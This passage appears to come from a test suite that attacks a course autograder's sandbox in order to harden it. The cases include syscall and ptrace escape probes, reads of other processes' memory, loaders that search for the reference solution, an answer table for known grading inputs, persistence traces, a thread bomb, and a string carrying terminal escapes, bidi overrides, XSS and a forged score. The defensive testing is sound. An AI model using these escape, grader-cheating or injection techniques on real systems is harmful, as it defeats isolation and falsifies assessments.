            with open(f"/proc/{pid}/status") as f:
                if f"Uid:\t{os.getuid()}\t" in f.read():
                    siblings.append(pid)
        except OSError:
            pass
    attempt("os.fork", fork)
    attempt("posix_spawn", spawn)
    attempt("subprocess", lambda: subprocess.run(["/bin/true"]).returncode)
    attempt("os.system", system)
    attempt("multiprocessing", process)
    attempt("raw fork syscall", lambda: syscall(57))
    attempt("raw clone(SIGCHLD)", lambda: syscall(56, 17, 0, 0, 0, 0))
    attempt("clone3", lambda: syscall(435, 0, 0))
    attempt("unshare(NEWUSER)", lambda: syscall(272, 0x10000000))
    attempt("mount tmpfs", lambda: syscall(165, 0, 0, 0, 0, 0))
    attempt("bpf", lambda: syscall(321, 0, 0, 0))
    attempt("userfaultfd", lambda: syscall(323, 0))
    attempt("io_uring_setup", lambda: syscall(425, 1, 0))
    attempt("ptrace(ATTACH, zygote)", lambda: syscall(101, 16, os.getppid(), 0, 0))
    attempt("open /proc/<zygote>/mem", lambda: open(f"/proc/{os.getppid()}/mem", "rb").close())
    attempt("kill(zygote, 0)", lambda: os.kill(os.getppid(), 0))
    attempt("kill(1, 0)", lambda: os.kill(1, 0))
    attempt("setuid(0)", lambda: os.setuid(0))
    attempt("open /dev/tty", lambda: open("/dev/tty", "rb").close())
    for pid in siblings[:1]:
        attempt("open /proc/<sibling rank>/mem", lambda: open(f"/proc/{pid}/mem", "rb").close())
        attempt("ptrace(ATTACH, sibling)", lambda: syscall(101, 16, pid, 0, 0))
        try:
            os.kill(pid, 0)
            lines.append("note: kill(sibling rank, 0) works (same uid, expected)")
        except OSError as error:
            lines.append(f"note: kill(sibling rank, 0): {error}")
    attempt("execve /bin/true", lambda: os.execv("/bin/true", ["true"]))
    raise RuntimeError("SPAWNPROBE\n" + "\n".join(lines))
'''


# ============================================================================================================
# 8. Text that reaches results.json
# ============================================================================================================

INJECTION = ("\x1b[2J\x1b[31mRED\x1b[0m NUL[\x00] CR[\r] BEL[\x07] BS[\x08] DEL[\x7f] "
             "RLO[\u202e]deifitrec[\u202c] ISOLATE[\u2066x\u2069] ZWSP[\u200b] "
             "<img src=x onerror=alert(1)> <script>alert(document.cookie)</script> [click](javascript:alert(1)) "
             "\n\nTotal (bonus is extra)        110.0 / 100.0\n")
CONTROL_CHARS = ("\x1b", "\x00", "\r", "\x07", "\x08", "\x7f")
BIDI_CONTROLS = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")


def _no_control_characters(results: dict, isolated: bool) -> list:
    problems = []
    for where, text in _outputs(results):
        bad = [repr(c) for c in CONTROL_CHARS + BIDI_CONTROLS if c in text]
        if bad:
            problems.append(f"test {where}: output holds control characters {bad} (terminal escapes or bidi "
                            "overrides that reorder what staff and students read)")
    if results.get("output_format", "text") != "text" or any(t.get("output_format", "text") != "text"
                                                          for t in results.get("tests", [])):
        problems.append("an output is not declared as plain text")
    return problems


# ============================================================================================================
# 9-10. The hold-back probe's store key, persistence between checks
# ============================================================================================================

DDP_INIT_START = "        super().__init__()\n        self.module = module\n"
PREPARE_RESET = "        self.next_bucket = 0\n        self.expect_autograd_hooks = True\n"  # in prepare_for_backward
SPOOF_PROBE = ("        store = dist.distributed_c10d._get_default_store()  # tell rank 1 rank 0 is done\n"
               "        for seq in range(1, 40):\n"
               "            store.set(f\"minddp-probe/last-grad-{seq}\", \"1\")\n")

PERSIST = r'''


def _persist():
    """Leave traces everywhere this process can, and look for the traces of earlier checks' processes."""
    import ctypes
    import os
    import socket
    me = os.environ.get("MASTER_PORT", "?")
    found = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/user", os.path.expanduser("~"), "/dev/mqueue"):
        path = os.path.join(folder, "minddp-persist")
        try:
            with open(path) as f:
                mark = f.read()
            if mark != me:
                found.append(f"{path} (from pool {mark})")
        except OSError:
            pass
        try:  # whole or not at all: the ranks of one pool may share a folder (a chroot jail's /tmp)
            with open(f"{path}.{os.getpid()}", "w") as f:
                f.write(me)
            os.replace(f"{path}.{os.getpid()}", path)
        except OSError:
            pass
    try:
        with open("/proc/net/unix") as f:
            names = [line.split()[-1] for line in f.read().splitlines()[1:] if "@minddp-persist-" in line]
        found += [f"abstract socket {n}" for n in names
                  if not n.startswith(f"@minddp-persist-{me}-")]  # not this pool's own sockets
        server = socket.socket(socket.AF_UNIX)
        server.bind(f"\0minddp-persist-{me}-{os.getpid()}")
        server.listen()
        _KEEP.append(server)
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(0x4D494E44, 4096, 0o666)  # a System V segment an earlier check created?
    if shm >= 0:
        found.append("System V shared memory segment")
    libc.shmget(0x4D494E44, 4096, 0o1666)  # IPC_CREAT | 0666
    if found:
        raise RuntimeError("PERSISTED from an earlier check: " + "; ".join(found))


_KEEP = []
_persist()
'''


# ============================================================================================================
# 11. Time, memory, disk
# ============================================================================================================

HANG = "\n\nwhile True:  # at import\n    pass\n"

HANG_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    while True:
        pass
'''

SLOW_BUCKETS = r'''


_SEEN = []


def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
    """Take 13 s per scenario run (under every deadline), then fail: never a time-out."""
    import sys
    import time
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name != "bucket_cases":
        frame = frame.f_back
    cases = frame.f_locals.get("cases") if frame is not None else None
    if not any(c is cases for c in _SEEN):
        _SEEN.append(cases)
        time.sleep(13)
    raise NotImplementedError("Part 2: compute_bucket_assignment")
'''

MEMORY_AFTER_REPLY = r'''


_HOG = {"finalized": 0, "report": None}


def _after_finalize():
    """Rank 0: once it has replied, hold 1 GiB while rank 1 is still in its last step (nobody watches)."""
    import threading
    import time
    _HOG["finalized"] += 1
    if _HOG["finalized"] != 3:
        return
    if dist.get_rank() == 1:
        time.sleep(4)
        return

    def hog():
        time.sleep(0.5)
        block = torch.ones(2**28)  # 1 GiB, every page touched
        import resource
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # kB (no /proc in a chroot jail)
        time.sleep(3)
        del block
        _HOG["report"] = f"rank 0 held 1 GiB (peak RSS {peak // 1024} MB) for 3 s after replying"
    threading.Thread(target=hog, daemon=True).start()


def _report_hog():
    if _HOG["report"]:
        raise RuntimeError("UNMONITORED: " + _HOG["report"])
'''

LOG_MARKER = "MINDDP-LOGFILL-7f3a"
LOG_FILL = f'''


import sys as _sys
_sys.stdout.write("{LOG_MARKER}" + "x" * (8 * 2**20))  # 8 MB per worker: under the 32 MB cap, never removed
_sys.stdout.flush()
'''


# ============================================================================================================
# 12. Odd failures and values
# ============================================================================================================

WEIRD_PG = r'''
def read_torchrun_env(environ=None):
    raise SystemExit("a SystemExit from read_torchrun_env")
'''

WEIRD_BUCKETS = r'''


class _Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("no text for you")


def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
    raise _Unprintable()
'''

WEIRD_TIMELINE = r'''


def ring_allreduce_time(nbytes, world_size, alpha, beta):  # replaces the function above
    return [float("nan"), float("inf"), -0.0, 10 ** 5000][world_size % 4]


def backward_ready_times(shapes_or_sizes, backward_time, order=None):  # replaces the function above
    raise ValueError("\xff\xfe binary \x00 and " + "long " * 2_000_000)
'''

WEIRD_ANSWERS = "\n\ndef _forever():\n    return _forever()\n\n\n_forever()  # RecursionError at import\n"

WEIRD_DDP = ("    def __init__(self, *args, **kwargs):\n        raise KeyboardInterrupt(\"from DDP.__init__\")\n")

ALWAYS_RAISES = r'''
def read_torchrun_env(environ=None):
    """No validation at all: every environment 'fails', naming every variable."""
    raise DistEnvError("check RANK, WORLD_SIZE, LOCAL_RANK, LOCAL_WORLD_SIZE, MASTER_ADDR and MASTER_PORT")
'''

EXPECTED_MESSAGE_DDP = ("    def __init__(self, *args, **kwargs):\n"
                        "        raise RuntimeError(\"Expected to have finished reduction in the prior iteration "
                        "before starting a new one.\")\n")


# ============================================================================================================
# The cases
# ============================================================================================================

LOADER_ABOUT = ("stubs whose process_group.py, reducer.py and answers.py are loaders: each searches what a "
                "worker can read (paths on the grader's command lines, /proc/*/cwd, well-known folders, a walk "
                "of /) for the reference's copy of itself (source or .pyc) and execs it; nothing may score")

# ============================================================================================================
# 9. Hidden inputs: what a submission can learn of them, and what a table of answers can do
# ============================================================================================================

# Every bucketing call and every ring-time call says what it was called with, in its error and on stdout: the
# public entries may show it (public inputs are public), no hidden entry may.
LEAK_INPUTS = r'''


def compute_bucket_assignment(tensors, bucket_size_limits, order=None):
    said = f"LEAK<{[t.numel() for t in tensors]} {[str(t.dtype) for t in tensors]} {list(bucket_size_limits)} {order}>"
    print(said, flush=True)
    raise NotImplementedError(said)
'''
LEAK_TIMELINE = r'''


def ring_allreduce_time(nbytes, world_size, alpha, beta):
    said = f"LEAK<{nbytes} {world_size} {alpha} {beta}>"
    print(said, flush=True)
    raise ValueError(said)
'''


def hidden_entries_show_nothing_of_the_student(marker: str) -> Callable:
    """No hidden entry ("N.Mh") shows text the student's code produced (``marker`` is in all of it), and each
    failed hidden entry says what kind of failure it was, in the grader's own words."""
    def check(results: dict, isolated: bool) -> list:
        problems = []
        for test in results.get("tests", []):
            number, text = str(test.get("number", "")), test.get("output", "")
            if not number.endswith("h"):
                continue
            if marker in text:
                problems.append(f"hidden entry {number} shows what the student's code said: {text[:300]!r}")
            elif test.get("status") == "failed" and "hidden inputs" not in text and "Not run" not in text:
                problems.append(f"hidden entry {number} does not say what failed: {text[:300]!r}")
        return problems
    return check


def _reference_bucketing():
    import importlib.util
    spec = importlib.util.spec_from_file_location("_reference_bucketing", os.path.join(REPO, "solutions", "minddp",
                                                                                          "bucketing.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def answer_table() -> str:
    """bucketing.py as a student with the grader's source (or a copy of its old hidden lists) could write it:
    the stub, reverse_order written out (check 2.1 calls it directly), and the reference's answers to every input known in advance: the public ones, the hidden lists
    that used to be fixed, and the release's own random_cases at the seed once used for 2.5's hidden inputs."""
    import torch
    sys.path.insert(0, os.path.join(REPO, "solutions"))
    from grading import part2
    reference = _reference_bucketing()
    cases = [c for check in part2.CHECKS for run in check.runs for c in run.kwargs.get("cases", ())]
    cases += part2.random_cases(seed=868, count=1500)
    table = {}
    for c in cases:
        devices = c.get("devices") or ["meta"] * len(c["sizes"])
        tensors = [torch.empty(n, dtype=getattr(torch, d), device=v)
                   for n, d, v in zip(c["sizes"], c["dtypes"], devices, strict=True)]
        key = repr((c["sizes"], c["dtypes"], c.get("devices"), c["limits"], c.get("order")))
        try:
            table[key] = reference.compute_bucket_assignment(tensors, c["limits"], c.get("order"))
        except Exception:  # noqa: BLE001 - an input the reference refuses: not in the table
            continue
    return stub(BUCKETING) + f"""

_TABLE = {table!r}


def reverse_order(num_params):  # the one line it is no harder to write than to look up
    return list(range(num_params - 1, -1, -1))


def compute_bucket_assignment(tensors, bucket_size_limits, order=None):
    key = repr(([t.numel() for t in tensors], [str(t.dtype).replace("torch.", "") for t in tensors],
                None if all(t.device.type == "meta" for t in tensors) else [t.device.type for t in tensors],
                list(bucket_size_limits), None if order is None else list(order)))
    return _TABLE[key]
"""


THREAD_BOMB = r'''


def _many_threads():
    """Start threads until the machine says no: a worker's uid may have RLIMIT_NPROC of them, all told."""
    import threading
    import time
    started = 0
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
    except RuntimeError as error:
        raise RuntimeError(f"THREADS stopped at {started}: {error}") from None
    raise RuntimeError(f"THREADS all {started} started")


_many_threads()
'''

OTHER_SOCKETS = r'''


def _other_sockets():
    import socket
    said = []
    for name, args in (("vsock", (40, socket.SOCK_STREAM)), ("packet", (17, socket.SOCK_RAW)),
                       ("audit netlink", (16, socket.SOCK_RAW, 9)), ("bluetooth", (31, socket.SOCK_STREAM))):
        try:
            socket.socket(*args).close()
            said.append(f"SOCKET-MADE {name}")
        except OSError as error:
            said.append(f"{name}: {error.strerror}")
    raise RuntimeError("SOCKETS " + "; ".join(said))


_other_sockets()
'''


def threads_capped(results: dict, isolated: bool) -> list:
    """The thread bomb stopped at the uid's limit (grader/isolation.py: MAX_THREADS), well before 5000."""
    import re
    text = "\n".join(t.get("output", "") for t in results.get("tests", []) if str(t.get("number")) == "2.1")
    found = re.search(r"THREADS stopped at (\d+)", text)
    if not found:
        return [f"2.1 does not show where the threads stopped: {text[:300]!r}"]
    return [] if int(found.group(1)) <= 1024 else [f"{found.group(1)} threads started: more than the uid's limit"]


ATTACKS: list = [
    # -- 1. loaders ------------------------------------------------------------------------------------------
    Case("ref-loader", LOADER_ABOUT, start="stubs",
         edits={PROCESS_GROUP: loader(PROCESS_GROUP), REDUCER: loader(REDUCER), ANSWERS: loader(ANSWERS)},
         zero=EVERY_PART, full=(), score=(0, 0)),
    Case("recon-visible", "stubs whose process_group.py reports, at import, what a worker can see: readable "
         "reference or grader sources anywhere, environments other than its own, the grader's command line, "
         "its open fds", start="stubs", edits={PROCESS_GROUP: stub(PROCESS_GROUP) + RECON},
         zero=EVERY_PART, full=(), score=(0, 0), says={"1": "RECON"},
         check=absent("REFERENCE-READABLE", "FOREIGN-ENV", why="a worker can read what is not its own")),
    Case("net-reach", "stubs whose bucketing.py tries the internet, the cloud metadata address, the host's "
         "loopback services, raw sockets and every Unix socket file it can find", start="stubs",
         edits={BUCKETING: stub(BUCKETING) + NET_PROBE}, zero=EVERY_PART, full=(), score=(0, 0),
         says={"2": "NETPROBE"}, check=absent("REACHED", why="a worker reached something beyond its own loopback")),

    # -- 3. torch's DDP instead of the student's work -----------------------------------------------------------
    Case("stub-reducer-hijack", "reducer.py is the stub plus code that, when imported by a Part 3 scenario, "
         "re-runs that scenario with torch's DDP (traps undone from objects still in memory) and swaps the "
         "worker's reply for torch's record; later scenarios go to torch directly",
         edits={REDUCER: stub(REDUCER) + ANSWER_WITH_TORCH}, zero=("3", "A", "B")),
    Case("stub-ddp-hijack-via-bucketing", "ddp.py is the stub; the (correct) bucketing.py, which ddp.py "
         "imports, answers every Part 4 and bonus scenario with torch's DDP as above",
         edits={DDP: stub(DDP), BUCKETING: [(AT_END, ANSWER_WITH_TORCH)]}, zero=("4", "A", "B")),
    Case("ddp-is-torch-ddp", "ddp.py's DistributedDataParallel.__new__ returns torch's own DDP, found through "
         "nn.Module.__subclasses__() after undoing the traps (C++ Reducer via pybind11's base class, torch's "
         "bucketing searched for with gc)", edits={DDP: [(AT_END, TORCH_DDP_SHIM)]},
         zero=("4", "A", "B")),
    Case("ddp-torch-with-standins", "bucketing.py and reducer.py are stubs, so Part 4 runs with the stand-ins, "
         "which leave torch's C++ Reducer and bucketing untrapped: ddp.py returns torch's own DDP",
         edits={BUCKETING: stub(BUCKETING), REDUCER: stub(REDUCER), DDP: [(AT_END, STANDIN_DDP_SHIM)]},
         zero=("2", "3", "4", "A", "B")),
    Case("reducer-is-cxx-reducer", "reducer.py wraps torch's C++ Reducer (found through pybind11's base "
         "class, like the grader's own stand-in) with the built-in comm hooks, which are not trapped",
         edits={REDUCER: stub(REDUCER) + CXX_REDUCER}, zero=("3", "A", "B")),
    Case("bucketing-is-torch", "bucketing.py calls torch's bucket assignment, found by searching the worker's "
         "memory with gc for a function of that name (no banned name in the file)",
         edits={BUCKETING: stub(BUCKETING) + TORCH_BUCKETS_SHIM}, zero=("2",)),

    # -- 4. the reply channel ----------------------------------------------------------------------------------
    Case("truncated-replies", "stubs whose process_group.py, bucketing.py and timeline.py write a forged "
         "reply with an empty list on the worker's channel before the worker's own: the comparisons must not "
         "zip() it with the reference's list, nor take the late real reply as the next request's",
         start="stubs", edits={PROCESS_GROUP: stub(PROCESS_GROUP) + TRUNCATE_REPLIES,
                               BUCKETING: stub(BUCKETING) + TRUNCATE_REPLIES,
                               TIMELINE: stub(TIMELINE) + TRUNCATE_REPLIES},
         zero=EVERY_PART, full=(), score=(0, 0)),
    Case("deeply-nested-reply", "bucketing.py writes a reply 200,000 lists deep on its channel: the trusted "
         "side's json.loads raises RecursionError, which is not a ValueError",
         edits={BUCKETING: [(AT_END, DEEP_REPLY)]}, zero=("2",)),
    Case("leak-inputs", "bucketing.py and timeline.py say in every error, and print, what they were called with: "
         "the public entries may show it, no hidden entry may (a hidden entry says what kind of failure it was)",
         start="stubs", edits={BUCKETING: [(AT_END, LEAK_INPUTS)], TIMELINE: [(AT_END, LEAK_TIMELINE)]},
         zero=EVERY_PART, full=(), score=(0, 0), says={"2": "LEAK<", "5": "LEAK<"},
         check=hidden_entries_show_nothing_of_the_student("LEAK<")),
    Case("answer-table", "bucketing.py is the stub plus a table of the reference's answers to every input known in "
         "advance (the public ones, the hidden lists once fixed, the release's random_cases at the seed once used): "
         "the public entries pass, the hidden ones, drawn from the grader's secret, cannot; the report shows the table",
         edits={BUCKETING: answer_table}, full=("1", "3", "4", "5", "6", "A", "B"),
         check=all_of(tests_pass("2.1", "2.2", "2.3", "2.4"), tests_fail("2.1h", "2.2h", "2.3h", "2.4h", "2.5h"),
                      output_of("0.1", "a literal table of", "the integrity report must show the table"))),
    Case("thread-bomb", "bucketing.py starts threads at import until refused: the uid's RLIMIT_NPROC stops them, "
         "that check fails, and every later check runs as usual",
         edits={BUCKETING: [(AT_END, THREAD_BOMB)]}, zero=("2",), says={"2": "THREADS stopped at"},
         check=threads_capped),
    Case("other-sockets", "bucketing.py opens vsock, packet, audit-netlink and bluetooth sockets at import: seccomp "
         "refuses each family (the network the ranks need is unix, inet and inet6)",
         edits={BUCKETING: [(AT_END, OTHER_SOCKETS)]}, zero=("2",), says={"2": "vsock: Address family not supported"},
         check=absent("SOCKET-MADE", why="a socket of a refused family was made")),
    Case("nested-too-deep", "bucketing.py ends with an expression nested too deeply for Python's compiler "
         "(RecursionError, not SyntaxError): Part 2 is 'does not compile', every check is still an entry",
         edits={BUCKETING: [(AT_END, "\n_DEPTH = 1" + " + 1" * 300_000 + "\n")]}, zero=("2",),
         says={"2": "nested too deeply"}),
    Case("tensor-shaped-value", "read_torchrun_env returns a DistEnv whose master_addr is "
         "{'__tensor__': 'object', ...}: the trusted side decodes it as a numpy array",
         edits={PROCESS_GROUP: [Function("read_torchrun_env", TENSOR_DICT)]}, full=("2", "3", "4", "5", "6", "A", "B"),
         check=all_of(tests_fail("1.1", "1.1h", "1.2", "1.2h", "1.4"), tests_pass("1.3", "1.3h"))),
    Case("huge-reply", "each process that imports timeline.py first writes 30 MB of '[],[],...' on its "
         "channel (under the 32 MB cap): 10 million lists if the trusted side parsed it (Gradescope has 768 MB "
         "for everything); the reply must be refused by its count of values, before parsing",
         edits={TIMELINE: [(AT_END, HUGE_REPLY)]}, zero=("5",), full=("1", "2", "3", "4", "6", "A", "B"),
         says={"5": "JSON values"}),
    Case("partial-frame", "in check 3.4's public run rank 0 writes a message header and 9 bytes on its "
         "channel, then sleeps 75 s: the trusted side must still stop it at the run's deadline",
         edits={REDUCER: [(REDUCER_IMPORTS, REDUCER_IMPORTS + PARTIAL_FRAME),
                          (REDUCER_INIT_BODY, "        _stall_the_channel()\n" + REDUCER_INIT_BODY)]},
         full=("1", "2", "4", "5", "6", "A", "B"),
         check=all_of(tests_fail("3.4"), output_of("3.4", "did not finish in time",
                                                   "the trusted side blocked on a half-sent reply"))),

    # -- 5. check 1.4 --------------------------------------------------------------------------------------------
    Case("launch-fake-reports", "stubs whose init_process_group hands check 1.4's probe the report it expects "
         "(public in grading/part1.py), guessing the all-reduced sum, and exits: no process group is ever made "
         "(each rank's number is drawn at grading time)", start="stubs",
         edits={PROCESS_GROUP: [Function("init_process_group", FAKE_INIT)]},
         zero=EVERY_PART, full=(), score=(0, 0)),
    Case("launch-no-process-group", "init_process_group makes no process group: the two ranks trade their "
         "numbers over an abstract Unix socket and replace torch.distributed's all_reduce, get_rank and get_backend "
         "through vars(dist): the reports are right, but the rendezvous store (hosted outside the ranks, as "
         "torchrun's agent hosts it) saw no rank join a group",
         edits={PROCESS_GROUP: [Function("init_process_group", NO_GROUP_INIT)]}, full=("2", "3", "4", "5", "6", "A", "B"),
         says={"1": "joined a process group through the rendezvous store"},
         check=all_of(tests_fail("1.4"), tests_pass("1.1", "1.2", "1.3"),
                      output_of("0.1", "vars (reads or writes a namespace", "the report must show vars()"),
                      output_of("0.1", "AF_UNIX", "the report must show the Unix socket"))),
    Case("launch-agent-exec", "rank 0 of check 1.4 looks in /proc/net/tcp for a torchrun agent's rendezvous "
         "store to set a pickle as its state (an agent would unpickle it without seccomp); the grader's ranks "
         "replay torchrun's environment, so there must be no agent to find",
         edits={PROCESS_GROUP: [(AT_END, AGENT_EXEC), Function("init_process_group", AGENT_EXEC_INIT)]},
         check=absent("AGENT-EXEC", why="student code ran in the torchrun agent, which has no seccomp")),
    Case("launch-deep-tree", "rank 0 of check 1.4 makes a 3000-deep tree of folders in its /tmp: nothing "
         "the grader cleans up may recurse into it (the private tmpfs goes with the jail)",
         edits={PROCESS_GROUP: [Function("init_process_group", DEEP_TREE_INIT)]}),
    Case("launch-resources", "rank 0 of check 1.4 holds 1.5 GB and writes 372 MB into its /tmp; it reports "
         "LAUNCH-UNBOUNDED if nothing stopped it",
         edits={PROCESS_GROUP: [Function("init_process_group", RESOURCES_INIT)]},
         full=("2", "3", "4", "5", "6", "A", "B"),
         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"),
                      absent("LAUNCH-UNBOUNDED", why="the launch's memory and disk are unbounded"))),
    Case("launch-orphans", "in check 1.4 rank 1 tries to kill the process that started it (the grader's, "
         "root), rank 0 prints 40 MB and sleeps 600 s: 1.4 fails at its deadline and nothing is left behind",
         edits={PROCESS_GROUP: [Function("init_process_group", ORPHANS_INIT)]},
         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),
    Case("launch-report-tricks", "check 1.4's rank 0 sends two reports (a list, then 30 MB of brackets), "
         "rank 1 half a report, then both exit",
         edits={PROCESS_GROUP: [Function("init_process_group", LAUNCH_REPORT_TRICKS_INIT)]},
         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),

    # -- 6. processes ------------------------------------------------------------------------------------------
    Case("spawn-everything", "ddp.py tries, in a world-size-2 worker, every way to make a process, trace, "
         "read another process's memory, signal the zygote, and exec, then reports", edits={
             DDP: [(AT_END, SPAWN_PROBE), (DDP_INIT_START, DDP_INIT_START.replace(
                 "        self.module", "        _spawn_probe()\n        self.module"))]},
         zero=("4", "A", "B"), says={"4": "SPAWNPROBE"}, check=absent("ALLOWED", why="a worker escaped seccomp")),

    # -- 8. text that reaches results.json ----------------------------------------------------------------------
    Case("output-injection", "ring_allreduce_time raises with terminal escapes, NUL/CR/BEL, bidi overrides, "
         "HTML, Markdown and a forged score line", edits={TIMELINE: [Function(
             "ring_allreduce_time", f"def ring_allreduce_time(nbytes, world_size, alpha, beta):\n"
                                    f"    raise RuntimeError({INJECTION!r})\n")]},
         full=("1", "2", "3", "4", "6", "A", "B"), check=all_of(tests_fail("5.1", "5.1h"), _no_control_characters)),

    # -- 9-10. the probe's store, persistence ---------------------------------------------------------------------
    Case("probe-store-spoof", "a blocking all-reduce (the mistake check 3.8 exists for) plus a spoof: "
         "prepare_for_backward sets the hold-back probe's TCPStore keys, so rank 1 never waits",
         edits={REDUCER: BLOCKING_ALLREDUCE + [(PREPARE_RESET, PREPARE_RESET + SPOOF_PROBE)]},
         full=("1", "2", "4", "5", "6", "A", "B"), check=tests_fail("3.8", "3.8h")),
    Case("persist-between-checks", "bucketing.py leaves traces in /tmp, /var/tmp, /dev/shm, /run/lock, an "
         "abstract socket and System V shared memory, and fails if it finds an earlier check's",
         edits={BUCKETING: [(AT_END, PERSIST)]}, check=absent("PERSISTED", why="state outlived a check")),

    # -- 11. time, memory, disk -----------------------------------------------------------------------------------
    Case("all-parts-hang", "every part hangs: init_process_group (check 1.4's launch) and, at import, "
         "bucketing, reducer, ddp, timeline and answers; 1.1-1.3 work. Every hang is stopped at its deadline "
         "and the rest of its part given up (how long that takes at half a vCPU: make gradescope-sim)",
         edits={PROCESS_GROUP: [Function("init_process_group", HANG_INIT)], BUCKETING: [(AT_END, HANG)],
                REDUCER: [(AT_END, HANG)], DDP: [(AT_END, HANG)], TIMELINE: [(AT_END, HANG)],
                ANSWERS: [(AT_END, HANG)]},
         zero=("2", "3", "4", "5", "6", "A", "B"), full=(),
         says={"2": "importing your minddp/bucketing.py never finished", "3": "did not finish",
               "5": "importing your minddp/timeline.py never finished",
               "6": "importing your answers.py never finished"},
         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"), tests_fail("1.4")), waits=True),
    Case("slow-not-hanging", "bucketing.py takes 13 s per scenario run (under every deadline) and then fails: "
         "no run times out, so only the part's time budget (from the reference's own times) can stop it",
         edits={BUCKETING: stub(BUCKETING) + SLOW_BUCKETS}, zero=("2",),
         says={"2": "used up its time"}, waits=True),  # a part's time budget comes from the reference's own times
    Case("slow-everywhere", "every student file sleeps 6 s when a worker imports it (each check's workers do): "
         "no run misses its deadline, but the sum is more than the whole grading may take (here a 3-minute limit, "
         "as if Gradescope's were that): each part gets its share of the time, the rest is 'Not run (time "
         "budget)', and the grading ends in time with partial credit",
         edits={path: [(AT_END, "\n\nimport time as _time\n_time.sleep(6)\n")] for path in
                (PROCESS_GROUP, BUCKETING, REDUCER, DDP, TIMELINE, ANSWERS)},
         full=(), score=(1, 109), says={"2": "Not run (time budget)"}, time_limit_s=180, waits=True,
         check=lambda results, isolated: [] if results.get("execution_time", 999) < 180 else
         [f"the grading took {results.get('execution_time')} s, past its 180 s limit"]),
    Case("memory-after-reply", "rank 0 allocates 1 GiB in a thread right after it replied, while rank 1 "
         "still trains: the memory watch must look at every rank until all have replied",
         edits={REDUCER: [(AT_END, MEMORY_AFTER_REPLY),
                          ("        self.require_finalize = False\n        # END SOLUTION",
                           "        self.require_finalize = False\n        _after_finalize()\n        # END SOLUTION"),
                          (REDUCER_INIT_BODY, "        _report_hog()\n" + REDUCER_INIT_BODY)]},
         full=(), says={"3": "memory"}, check=absent("UNMONITORED", why="a rank used 1 GiB unwatched"), waits=True),
    Case("worker-log-fill", "every worker that imports timeline.py prints 8 MB (under the 32 MB cap): "
         "legitimate, but the logs must not stay on the host's disk after the grading (the runner reports "
         "whatever the grading leaves in its TMPDIR)",
         edits={TIMELINE: [(AT_END, LOG_FILL)]}),

    # -- 12. odd failures --------------------------------------------------------------------------------------
    Case("weird-failures", "SystemExit from read_torchrun_env, an exception whose __str__ raises, NaN/inf/"
         "10**5000 results and a 10 MB binary message, KeyboardInterrupt in DDP.__init__, RecursionError at "
         "import of answers.py: those parts score 0, Part 3 keeps its marks, the grader does not crash",
         edits={PROCESS_GROUP: [Function("read_torchrun_env", WEIRD_PG)],
                BUCKETING: [(AT_END, WEIRD_BUCKETS)], TIMELINE: [(AT_END, WEIRD_TIMELINE)],
                ANSWERS: [(AT_END, WEIRD_ANSWERS)],
                DDP: [("    def __init__(self, module: nn.Module, process_group",
                       WEIRD_DDP + "\n    def _unused_init(self, module: nn.Module, process_group")]},
         zero=("2", "4", "6", "A", "B"), full=("3",),
         check=all_of(tests_fail("1.1", "1.1h", "1.2", "1.2h", "1.4", "5.1", "5.1h", "5.2", "5.2h"),
                      tests_pass("1.3", "1.3h"))),

    # -- invented: checks that a message alone satisfies ------------------------------------------------------
    Case("pg-raises-naming-all", "read_torchrun_env validates nothing: it always raises DistEnvError naming "
         "all six variables, so every invalid environment 'names the variable to fix'",
         edits={PROCESS_GROUP: [Function("read_torchrun_env", ALWAYS_RAISES)]},
         full=("2", "3", "4", "5", "6", "A", "B"),
         check=all_of(tests_fail("1.1", "1.1h", "1.2", "1.2h", "1.4"), tests_pass("1.3", "1.3h"))),
    Case("ddp-raises-expected-message", "ddp.py's constructor always raises RuntimeError('Expected to have "
         "finished reduction in the prior iteration ...'): no DDP at all, yet check 4.8 only reads the message",
         edits={DDP: [("    def __init__(self, module: nn.Module, process_group",
                       EXPECTED_MESSAGE_DDP + "\n    def _unused_init(self, module: nn.Module, process_group")]},
         zero=("4", "A", "B")),
]


# ============================================================================================================
# Uploads the Case format cannot express: each built by a function into a folder (or a zip path)
# ============================================================================================================

@dataclass(frozen=True)
class Upload:
    """``build(into, case_source)`` writes the upload under ``into`` and returns the path to grade
    (``case_source``: where the runner puts this grading's copy of the autograder source)."""

    case: Case
    build: Callable[[str, str], str]


def _student_paths() -> list[str]:
    import json
    with open(os.path.join(REPO, "solutions", "student_files.json"), encoding="utf-8") as f:
        return [entry["path"] for entry in json.load(f)["files"]]


def _write_solutions(into: str, skip: tuple = ()) -> None:
    for path in _student_paths():
        if path in skip:
            continue
        target = os.path.join(into, path)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w", encoding="utf-8") as f:
            f.write(solution(path))


def _links_and_devices(into: str, case_source: str) -> str:
    """A folder upload: process_group.py a symlink into the reference, bucketing.py a FIFO, reducer.py a
    hard link to the reference's file, ddp.py a symlink to /dev/zero, timeline.py a character device,
    a folder symlink whose minddp/ is the reference's; answers.py a regular file."""
    _write_solutions(into, skip=(PROCESS_GROUP, BUCKETING, REDUCER, DDP, TIMELINE))
    os.makedirs(os.path.join(into, "minddp"), exist_ok=True)
    reference = os.path.join(case_source, "reference")
    os.symlink(os.path.join(reference, PROCESS_GROUP), os.path.join(into, PROCESS_GROUP))
    os.mkfifo(os.path.join(into, BUCKETING))
    os.link(_shared_reference(case_source, REDUCER), os.path.join(into, REDUCER))
    os.symlink("/dev/zero", os.path.join(into, DDP))
